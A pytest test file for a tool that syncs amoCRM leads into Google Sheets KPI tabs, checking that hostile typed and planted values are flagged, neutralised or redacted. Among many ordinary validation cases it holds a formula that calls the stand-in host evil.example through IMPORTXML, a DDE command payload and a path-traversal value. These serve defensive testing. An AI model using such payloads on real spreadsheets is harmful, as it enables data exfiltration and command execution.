"""Hostile input, typed into every input tab and planted in amoCRM, all in one cycle.

One small world: a clean cycle first (the manager tabs to keep), then every case below at once
(each in its own row or lead), then one cycle. Each case asserts: the cycle did not crash, no
input cell was changed, no manager tab was lost, the data issue it is due (tab, row, column,
value, reason) or what became of it in the output, and no secret anywhere (tabs, store, logs).
"""

from __future__ import annotations

import logging
import os
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from sheets_kpi.cycle import CycleReport
from sheets_kpi.emulators.amocrm import DEMO_TOKEN
from sheets_kpi.emulators.sheets.cells import Formula
from sheets_kpi.redaction import redact
from sheets_kpi.sheets.input_tabs import TABS
from sheets_kpi.sheets.inputs import parse_inputs
from sheets_kpi.sheets.layout import MAX_CELL_CHARS
from sheets_kpi.store.frames import amocrm_frames
from tests.conftest import NOW
from tests.small_world import SmallWorld, small_world

pytestmark = pytest.mark.e2e

BOOK = "hostile-book"
TITLES = {spec.key: spec.ru for spec in TABS}
HUGE = "Я" * 49_000  # typed: within the cell limit, past any sensible value
FORMULA = '=IMPORTXML("http://evil.example/x", "//a")'
SPREADSHEET = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"
JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJlLXBhcnQ"
#: Where to write the table of cases (input → outcome), when set.
TABLE = os.environ.get("HOSTILE_TABLE")


@dataclass(frozen=True)
class Typed:
    """A row typed into an input tab: `cells` by column key; `row` an existing roster row to
    type over (its other cells stay), else a new row at the bottom. `column` is where the data
    issue is due (None: the row is valid and used), `reason` a part of its message."""

    case: str
    tab: str
    cells: dict[str, Any]
    column: str | None
    reason: str = ""
    row: int | None = None


# The roster's rows 2..5 are the four managers; hostile optional cells go over them (the
# person stays), hostile rows below them.
TYPED = [
    Typed(
        "roster id not a number",
        "roster",
        {"amo_user_id": "abc", "name": "X", "department": "sales"},
        "amo_user_id",
        "expected a number",
    ),
    Typed(
        "roster id negative",
        "roster",
        {"amo_user_id": -5, "name": "X", "department": "sales"},
        "amo_user_id",
        "must be a whole amoCRM user id",
    ),
    Typed(
        "roster id fractional",
        "roster",
        {"amo_user_id": 1001.5, "name": "X", "department": "sales"},
        "amo_user_id",
        "must be a whole amoCRM user id",
    ),
    Typed(
        "roster id empty",
        "roster",
        {"name": "Без ID", "department": "sales"},
        "amo_user_id",
        "is empty",
    ),
    Typed(
        "roster name empty",
        "roster",
        {"amo_user_id": 7001, "department": "sales"},
        "name",
        "is empty",
    ),
    Typed(
        "roster department unknown",
        "roster",
        {"amo_user_id": 7002, "name": "Y", "department": "Бухгалтерия"},
        "department",
        "unknown department",
    ),
    Typed(
        "roster department formula",
        "roster",
        {"amo_user_id": 7003, "name": "Y", "department": FORMULA},
        "department",
        "unknown department",
    ),
    Typed(
        "roster id boolean",
        "roster",
        {"amo_user_id": True, "name": "Y", "department": "sales"},
        "amo_user_id",
        "true/false",
    ),
    Typed(
        "roster active unclear",
        "roster",
        {"active": "может быть"},
        "active",
        "counted as active",
        row=2,
    ),
    Typed(
        "roster bonus base negative",
        "roster",
        {"bonus_base": -1000},
        "bonus_base",
        "the department's base is used",
        row=2,
    ),
    Typed(
        "roster email invalid", "roster", {"email": "not-an-email"}, "email", "left empty", row=3
    ),
    Typed("roster seniority unknown", "roster", {"seniority": "гуру"}, "seniority", "гуру", row=3),
    Typed(
        "roster personal path traversal",
        "roster",
        {"personal_spreadsheet": f"../../drive/v3/files/{SPREADSHEET}"},
        "personal_spreadsheet",
        "stays in the main spreadsheet",
        row=4,
    ),
    Typed(
        "roster personal id with #",
        "roster",
        {"personal_spreadsheet": f"{SPREADSHEET}#"},
        "personal_spreadsheet",
        "stays in the main spreadsheet",
        row=5,
    ),
    Typed(
        "roster personal Drive link",
        "roster",
        {
            "amo_user_id": 7004,
            "name": "Z",
            "department": "sales",
            "personal_spreadsheet": f"https://drive.google.com/file/d/{SPREADSHEET}/view",
        },
        "personal_spreadsheet",
        "stays in the main spreadsheet",
    ),
    Typed(
        "roster bonus base text",
        "roster",
        {"amo_user_id": 7005, "name": "Z2", "department": "sales", "bonus_base": "сорок тысяч"},
        "bonus_base",
        "expected a number",
    ),
    Typed(
        "roster active formula", "roster", {"active": FORMULA}, "active", "counted as active", row=4
    ),
    Typed("roster email huge", "roster", {"email": HUGE}, "email", "left empty", row=5),
    Typed(
        "plans period month 13",
        "plans",
        {"period": "2026-13", "department": "sales", "kpi": "sales_rub", "plan": 5},
        "period",
        "2026-13",
    ),
    Typed(
        "plans period before 2000",
        "plans",
        {"period": "1999-05", "department": "sales", "kpi": "sales_rub", "plan": 5},
        "period",
        "before 2000 is taken for a typo",
    ),
    Typed(
        "plans manager unknown",
        "plans",
        {"period": "2026-11", "manager": "Несуществующий", "kpi": "sales_rub", "plan": 5},
        "manager",
        "unknown manager",
    ),
    Typed(
        "plans department unknown",
        "plans",
        {"period": "2026-11", "department": "Бухгалтерия", "kpi": "sales_rub", "plan": 5},
        "department",
        "unknown department",
    ),
    Typed(
        "plans kpi unknown",
        "plans",
        {"period": "2026-11", "department": "sales", "kpi": "счастье", "plan": 5},
        "kpi",
        "счастье",
    ),
    Typed(
        "plans plan text",
        "plans",
        {"period": "2026-11", "department": "sales", "kpi": "proposals", "plan": "десять"},
        "plan",
        "expected a number",
    ),
    Typed(
        "plans plan formula",
        "plans",
        {"period": "2026-11", "department": "sales", "kpi": "proposals", "plan": "=1/0"},
        "plan",
        "expected a number",
    ),
    Typed(
        "plans plan huge",
        "plans",
        {"period": "2026-11", "department": "sales", "kpi": "proposals", "plan": HUGE},
        "plan",
        "expected a number",
    ),
    Typed(
        "plans plan the amoCRM token pasted",
        "plans",
        {"period": "2026-11", "department": "sales", "kpi": "proposals", "plan": DEMO_TOKEN},
        "plan",
        "expected a number, got '***'",
    ),
    Typed(
        "plans plan boolean",
        "plans",
        {"period": "2026-11", "department": "sales", "kpi": "proposals", "plan": True},
        "plan",
        "true/false",
    ),
    Typed("plans comment row", "plans", {"period": "# a note", "kpi": FORMULA, "plan": "x"}, None),
    Typed(
        "scores dated 2099",
        "scores",
        {"date": "2099-11-03", "manager": 1002, "kind": "nps", "score": 9},
        "date",
        "after today",
    ),
    Typed(
        "scores dated before 2000",
        "scores",
        {"date": "03.11.1926", "manager": 1002, "kind": "nps", "score": 9},
        "date",
        "before 2000 is taken for a typo",
    ),
    Typed(
        "scores date impossible",
        "scores",
        {"date": "31.02.2026", "manager": 1002, "kind": "nps", "score": 9},
        "date",
        "expected a date",
    ),
    Typed(
        "scores manager unknown",
        "scores",
        {"date": "2026-11-03", "manager": 99999, "kind": "nps", "score": 9},
        "manager",
        "unknown manager",
    ),
    Typed(
        "scores kind unknown",
        "scores",
        {"date": "2026-11-03", "manager": 1002, "kind": "гадание", "score": 9},
        "kind",
        "гадание",
    ),
    Typed(
        "scores nps above 10",
        "scores",
        {"date": "2026-11-03", "manager": 1002, "kind": "nps", "score": 11},
        "score",
        "NPS",
    ),
    Typed(
        "scores nps fractional",
        "scores",
        {"date": "2026-11-03", "manager": 1002, "kind": "nps", "score": 7.5},
        "score",
        "NPS",
    ),
    Typed(
        "scores quality above scale",
        "scores",
        {"date": "2026-11-03", "manager": 1002, "kind": "call_quality", "score": 150},
        "score",
        "call quality is scored",
    ),
    Typed(
        "scores score formula",
        "scores",
        {"date": "2026-11-03", "manager": 1002, "kind": "nps", "score": FORMULA},
        "score",
        "expected a number",
    ),
    Typed(
        "scores comment formula",
        "scores",
        {"date": "2026-11-03", "manager": 1002, "kind": "nps", "score": 8, "comment": FORMULA},
        None,
    ),
    Typed(
        "scores manager RTL",
        "scores",
        {"date": "2026-11-03", "manager": "\u202eвонавИ\u202c", "kind": "nps", "score": 8},
        "manager",
        "unknown manager",
    ),
    Typed(
        "violations type unknown",
        "violations",
        {"date": "2026-11-03", "manager": 1002, "type": "опоздание"},
        "type",
        "unknown violation type",
    ),
    Typed(
        "violations dated 2099",
        "violations",
        {"date": "01.01.2099", "manager": 1002, "type": "control"},
        "date",
        "after today",
    ),
    Typed(
        "violations manager empty",
        "violations",
        {"date": "2026-11-03", "type": "control"},
        "manager",
        "is empty",
    ),
    Typed(
        "violations control characters",
        "violations",
        {"date": "2026-11-03", "manager": 1002, "type": "control\x00\x07"},
        "type",
        "unknown violation type",
    ),
    Typed(
        "violations token in comment",
        "violations",
        {"date": "2026-11-03", "manager": 1002, "type": "control", "comment": f"Bearer {JWT}"},
        None,
    ),
    Typed(
        "appeals outcome unknown",
        "appeals",
        {"date": "2026-11-04", "manager": 1002, "ref": "N-1", "outcome": "может быть"},
        "outcome",
        "unknown appeal outcome",
    ),
    Typed(
        "appeals dated 2099",
        "appeals",
        {"date": "2099-01-01", "manager": 1002, "ref": "N-1", "outcome": "won"},
        "date",
        "after today",
    ),
    Typed(
        "appeals date serial too small",
        "appeals",
        {"date": 15, "manager": 1002, "ref": "N-1", "outcome": "won"},
        "date",
        "expected a date",
    ),
    Typed(
        "close action unknown",
        "close",
        {"period": "2026-10", "department": "sales", "action": "взломать", "who": "Иван"},
        "action",
        "unknown close action",
    ),
    Typed(
        "close period invalid",
        "close",
        {"period": "вчера", "department": "sales", "action": "approve", "who": "Иван"},
        "period",
        "вчера",
    ),
    Typed(
        "close approve with a manager",
        "close",
        {"period": "2026-10", "manager": 1002, "action": "approve", "who": "Иван"},
        "manager",
        "for a whole department",
    ),
    Typed(
        "close accept without a manager",
        "close",
        {"period": "2026-10", "department": "sales", "action": "accept", "who": "Иван"},
        "manager",
        "needs the manager",
    ),
    Typed(
        "close who empty",
        "close",
        {"period": "2026-10", "department": "sales", "action": "approve"},
        "who",
        "is empty",
    ),
    Typed(
        "close department formula",
        "close",
        {"period": "2026-10", "department": FORMULA, "action": "approve", "who": "Иван"},
        "department",
        "unknown department",
    ),
]


@dataclass(frozen=True)
class Planted:
    """amoCRM data planted on a lead with an open deal violation (the manager tab lists it),
    then what the output must show (`check` returns the outcome for the table)."""

    case: str
    fields: dict[str, Any]
    check: Callable[[Outcome, int], str]


@dataclass
class Outcome:
    world: SmallWorld
    report: CycleReport
    manager_tabs: list[str]
    inputs_before: dict[str, list[list]]
    inputs_after: dict[str, list[list]]
    titles_after: list[str]
    issues: list[list]
    rows: dict[str, int] = field(default_factory=dict)
    leads: dict[str, int] = field(default_factory=dict)
    log: list[str] = field(default_factory=list)
    #: (tab title, where) → the issue's English text; the tab shows it in the ru locale.
    english: dict[tuple[str, str], str] = field(default_factory=dict)

    def cells(self) -> Iterator[tuple[str, tuple[int, int], Any]]:
        for sheet in self.world.sheets.get(BOOK).sheets:
            for coord, value in sheet.cells.items():
                yield sheet.title, coord, value

    def shown_name(self, lead_id: int) -> Any:
        """The lead's name as its manager tab's violations table shows it: three columns left
        of its link (an overdue task's link has no name there)."""
        link = f"/leads/detail/{lead_id}"
        books = {s.title: s for s in self.world.sheets.get(BOOK).sheets}
        for title, (row, col), value in self.cells():
            if title in self.manager_tabs and isinstance(value, str) and value.endswith(link):
                name = books[title].cells.get((row, col - 3))
                if name is not None:
                    return name
        raise AssertionError(f"lead {lead_id} is in no manager tab")


def _shown_as_text(expected: str) -> Callable[[Outcome, int], str]:
    def check(outcome: Outcome, lead_id: int) -> str:
        shown = outcome.shown_name(lead_id)
        assert shown == expected and not isinstance(shown, Formula), repr(shown)
        return "shown as typed, a text cell (never a formula)"

    return check


def _cut(outcome: Outcome, lead_id: int) -> str:
    shown = outcome.shown_name(lead_id)
    assert isinstance(shown, str) and len(shown) <= MAX_CELL_CHARS and "[cut:" in shown
    return f"cut to {len(shown)} characters with a visible marker"


def _named_by_id(outcome: Outcome, lead_id: int) -> str:
    assert outcome.shown_name(lead_id) == str(lead_id)
    return "listed under its id"


def _listed(outcome: Outcome, lead_id: int) -> str:
    shown = outcome.shown_name(lead_id)
    assert not isinstance(shown, Formula)
    return f"listed, its name shown as {shown!r:.70}"


def _skipped(name: str) -> Callable[[Outcome, int], str]:
    def check(outcome: Outcome, lead_id: int) -> str:
        found = [r for r in outcome.issues if r[1] == "amoCRM" and r[2] == f"leads {lead_id}"]
        assert len(found) == 1 and found[0][0] == "warning", found
        assert found[0][4].startswith(name) and "запись пропущена" in found[0][4]
        outcome.shown_name(lead_id)  # still listed, as last read
        return f"warning: {found[0][4]}"

    return check


def _not_listed(outcome: Outcome, lead_id: int) -> str:
    with pytest.raises(AssertionError, match="in no manager tab"):
        outcome.shown_name(lead_id)
    return "no longer in any manager tab (no rostered owner)"


PLANTED = [
    Planted("lead name of a million characters", {"name": "Ж" * 1_000_000}, _cut),
    Planted("lead name a formula", {"name": FORMULA}, _shown_as_text(FORMULA)),
    Planted(
        "lead name a DDE payload",
        {"name": "+cmd|' /C calc'!A0"},
        _shown_as_text("+cmd|' /C calc'!A0"),
    ),
    Planted("lead name with control characters", {"name": "Сделка\x00\x07\x1b[31m\x7f"}, _listed),
    Planted(
        "lead name right-to-left",
        {"name": "\u202eакледС\u202c"},
        _shown_as_text("\u202eакледС\u202c"),
    ),
    Planted("lead name token-shaped", {"name": f"Bearer {JWT}"}, _listed),
    Planted("lead name null", {"name": None}, _named_by_id),
    Planted("lead name a number", {"name": 12345}, _shown_as_text("12345")),
    Planted("lead price null", {"price": None}, _listed),
    Planted("lead price negative", {"price": -50_000}, _listed),
    Planted("lead price text", {"price": "много"}, _skipped("price")),
    Planted("lead owner unknown user", {"responsible_user_id": 99_999_999}, _not_listed),
    Planted(
        "lead in a deleted pipeline",
        {"pipeline_id": 4_242_424, "status_id": 4_242_425},
        _listed,
    ),
    Planted("lead created_at null", {"created_at": None}, _skipped("created_at")),
    Planted(
        "lead custom fields garbage",
        {"custom_fields_values": [{"field_id": "x", "values": None}, 7]},
        _skipped("custom_fields_values"),
    ),
]


def _write_rows(world: SmallWorld, typed: list[Typed]) -> dict[str, int]:
    """Type every case: over a roster row, or in a new row at the bottom of its tab."""
    rows: dict[str, int] = {}
    for key in TITLES:
        sheet = world.worksheet(TITLES[key])
        grid = sheet.get_values(value_render_option="UNFORMATTED_VALUE")
        header = grid[0]
        spec = next(s for s in TABS if s.key == key)
        position = {c.key: header.index(c.ru) for c in spec.columns}
        grid = [list(r) + [""] * (len(header) - len(r)) for r in grid]
        for case in (c for c in typed if c.tab == key):
            if case.row is None:
                grid.append([""] * len(header))
                number = len(grid)
            else:
                number = case.row
            for column, value in case.cells.items():
                grid[number - 1][position[column]] = value
            rows[case.case] = number
        sheet.update(grid[1:], "A2", raw=True)
    return rows


def _plant(world: SmallWorld, planted: list[Planted]) -> dict[str, int]:
    frames = amocrm_frames(world.store)
    roster = {int(r[0]) for r in world.tab(TITLES["roster"])[1:5]}
    violations = frames["deal_violations"]
    leads = world.account.entities["leads"]
    candidates = sorted(
        {
            int(v)
            for v in violations.loc[violations["resolved_at"].isna(), "lead_id"]
            if leads[int(v)]["responsible_user_id"] in roster
        }
    )
    assert len(candidates) >= len(planted), len(candidates)
    chosen = {}
    for case, lead_id in zip(planted, candidates, strict=False):
        leads[lead_id].update(case.fields, updated_at=NOW)
        chosen[case.case] = lead_id
    world.account._changed()
    return chosen


class _Lines(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@pytest.fixture(scope="module")
def outcome(tmp_path_factory) -> Iterator[Outcome]:
    with small_world(tmp_path_factory.mktemp("hostile"), BOOK, managers=4) as world:
        assert world.cycle().status == "ok"
        manager_tabs = [str(r[1]) for r in world.tab(TITLES["roster"])[1:]]
        assert set(manager_tabs) <= set(world.titles())
        rows = _write_rows(world, TYPED)
        leads = _plant(world, PLANTED)
        before = {key: world.tab(title) for key, title in TITLES.items()}
        lines = _Lines()
        logging.getLogger().addHandler(lines)
        try:
            report = world.cycle(world.now + timedelta(minutes=15))
        finally:
            logging.getLogger().removeHandler(lines)
        result = Outcome(
            world,
            report,
            manager_tabs,
            before,
            {key: world.tab(title) for key, title in TITLES.items()},
            world.titles(),
            world.tab("Проблемы данных")[1:],
            rows,
            leads,
            lines.lines,
        )
        after = parse_inputs(result.inputs_after, world.config, today=world.now.date())
        result.english = {
            (issue.source, issue.where): issue.message for issue in after.issues.itertuples()
        }
        yield result
        if TABLE:
            _write_table(result, Path(TABLE))


def _common(outcome: Outcome) -> None:
    assert outcome.report.status == "ok", outcome.report.error  # no crash, nothing failed
    assert outcome.inputs_after == outcome.inputs_before  # no input cell changed
    assert set(outcome.manager_tabs) <= set(outcome.titles_after)  # no manager tab lost


def _issues_at(outcome: Outcome, case: Typed) -> list[list]:
    where = re.compile(rf"строка {outcome.rows[case.case]}, столбец «[^»]+»$")
    return [r for r in outcome.issues if r[1] == TITLES[case.tab] and where.match(str(r[2]))]


def _header(case: Typed) -> str:
    """The case's column as the tab's (ru) header names it, as the data issues say it."""
    spec = next(spec for spec in TABS if spec.key == case.tab)
    return next(column.ru for column in spec.columns if column.key == case.column)


@pytest.mark.parametrize("case", TYPED, ids=[c.case for c in TYPED])
def test_a_typed_hostile_value_is_a_precise_issue_or_harmless(outcome, case: Typed) -> None:
    _common(outcome)
    found = _issues_at(outcome, case)
    if case.column is None:
        assert not found, found
        return
    row = outcome.rows[case.case]
    mine = [r for r in found if r[2] == f"строка {row}, столбец «{_header(case)}»"]
    assert len(mine) == 1, found
    _, _, _, value, message, *_ = mine[0]
    typed = case.cells.get(case.column)
    shown = "" if typed is None else str(typed)
    if DEMO_TOKEN in shown:  # a secret pasted into a cell is not echoed back
        assert value == "***", value
    else:
        assert value == shown
    assert len(value) <= MAX_CELL_CHARS
    assert message  # in the configured locale (ru); the reason is checked in English
    english = redact(outcome.english[(TITLES[case.tab], f"row {row}, column {case.column}")])
    assert case.reason in english, english


@pytest.mark.parametrize("case", PLANTED, ids=[c.case for c in PLANTED])
def test_hostile_amocrm_data_is_written_safely(outcome, case: Planted) -> None:
    _common(outcome)
    case.check(outcome, outcome.leads[case.case])


def test_no_secret_reaches_a_tab_the_store_or_the_log(outcome) -> None:
    _common(outcome)
    inputs = set(TITLES.values())  # where the token was pasted by hand
    tabs = "\n".join(str(value) for title, _, value in outcome.cells() if title not in inputs)
    store = "\n".join(outcome.world.store._conn.iterdump())
    log = "\n".join(outcome.log)
    for where, text in (("tabs", tabs), ("store", store), ("log", log)):
        assert DEMO_TOKEN not in text, where
    assert "Bearer ey" not in log


def _write_table(outcome: Outcome, path: Path) -> None:
    """The table of cases (input → outcome) for the issue's closing note."""
    lines = ["| # | input | where | outcome |", "|---|---|---|---|"]
    for number, case in enumerate(TYPED, start=1):
        found = [
            r
            for r in _issues_at(outcome, case)
            if case.column and r[2].endswith(f"«{_header(case)}»")
        ]
        if found:
            text = f"{found[0][0]}: {found[0][4][:140]}"
        else:
            text = "used as a valid row, no issue" if case.column is None else "MISSING ISSUE"
        where = f"{TITLES[case.tab]} row {outcome.rows[case.case]}"
        lines.append(f"| {number} | {case.case} | {where} | {text} |")
    for number, planted in enumerate(PLANTED, start=len(TYPED) + 1):
        try:
            text = planted.check(outcome, outcome.leads[planted.case])
        except Exception as err:
            text = f"FAILED: {err}"
        lines.append(f"| {number} | {planted.case} | amoCRM lead | {text} |")
    path.write_text(
        f"{len(TYPED)} typed + {len(PLANTED)} planted = {len(TYPED) + len(PLANTED)} cases\n\n"
        + "\n".join(lines)
        + "\n",
        encoding="utf-8",
    )
